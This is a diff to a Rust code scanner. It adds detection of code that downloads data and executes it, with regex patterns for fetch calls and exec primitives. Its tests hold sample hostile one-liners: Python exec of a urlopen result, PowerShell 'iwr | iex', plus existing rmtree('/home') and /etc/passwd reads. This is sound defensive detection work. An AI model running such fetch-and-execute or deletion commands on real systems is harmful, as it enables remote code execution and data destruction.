@@ -23,6 +23,8 @@ pub struct Findings {
     pub dynamic_exec: bool,
     /// Decodes data and executes it.
     pub decoded_exec: bool,
+    /// Downloads data and executes it.
+    pub downloaded_exec: bool,
 }
 
 fn re(pattern: &str) -> Regex {
@@ -55,6 +57,16 @@ static DECODE: LazyLock<Regex> = LazyLock::new(|| {
 static CODE_EXEC: LazyLock<Regex> = LazyLock::new(|| {
     re(
         r"\b(exec|eval|compile|Function|instance_eval|class_eval|system|popen|execSync|spawn|shell_exec|passthru|iex|Invoke-Expression)\s*\(",
+    )
+});
+static DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r"(?i)\b(urlopen|urlretrieve|requests\.(get|post)|httpx\.|fetch\s*\(|https?\.get|Net::HTTP|open-uri|LWP::|HTTP::Tiny|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|DownloadFile|WebClient|file_get_contents\s*\(\s*['\x22]https?:)",
+    )
+});
+static ANY_EXEC: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r"\b(exec|eval|compile|Function|instance_eval|system|popen|execSync|spawn|shell_exec|passthru|iex|Invoke-Expression|require)\b|\|\s*(sh|bash)\b",
     )
 });
 static LITERAL_LIST: LazyLock<Regex> =
@@ -95,6 +107,9 @@ fn scan_into(code: &str, found: &mut Findings, depth: usize) {
     }
     if DECODE.is_match(code) && CODE_EXEC.is_match(code) {
         found.decoded_exec = true;
+    }
+    if DOWNLOAD.is_match(code) && ANY_EXEC.is_match(code) {
+        found.downloaded_exec = true;
     }
     let paths = || literals.iter().filter(|l| path_like(&l.text)).map(|l| l.text.clone());
     if RECURSIVE_DELETE.is_match(code) {
@@ -192,6 +207,13 @@ mod tests {
         assert!(scan("print(open('/etc/passwd').read())").written.is_empty());
         assert!(scan("fs.rmSync('dist', {recursive: true})").recursive_delete);
         assert_eq!(scan("exec(\"import shutil; shutil.rmtree('/home')\")").deleted, ["/home"]);
+    }
+
+    #[test]
+    fn downloaded_code_that_is_executed_is_noticed() {
+        assert!(scan("import urllib.request; exec(urllib.request.urlopen('http://x').read())").downloaded_exec);
+        assert!(scan("iwr https://x | iex").downloaded_exec);
+        assert!(!scan("import requests; print(requests.get('http://localhost:3000').status_code)").downloaded_exec);
     }
 
     #[test]
